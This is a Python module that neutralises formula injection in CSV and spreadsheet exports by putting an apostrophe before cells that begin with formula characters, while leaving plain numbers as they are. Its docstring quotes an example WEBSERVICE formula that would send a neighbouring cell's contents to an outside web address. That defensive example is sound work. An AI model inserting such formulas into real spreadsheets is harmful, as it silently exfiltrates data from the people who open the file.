"""Text for spreadsheet cells: what Excel, WPS or LibreOffice would run as a formula stays text.

A measure, heading or title that begins with ``=`` (``=WEBSERVICE("http://…?"&C3)``) would be a
formula in a workbook or a CSV file opened in a spreadsheet, sending a neighbouring cell away when
the sheet recalculates. ``.xlsx`` cells are written with the string type (``kg/export/workbook.py``); a CSV
cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets an apostrophe
before it, as OWASP advises (spreadsheets show the text; Excel hides the apostrophe). A plain
number (``-3``, ``+2.5``) is no formula and is left as it is.
"""
from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def csv_text(value: str) -> str:
    """``value`` as a CSV cell a spreadsheet reads as text."""
    if value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value
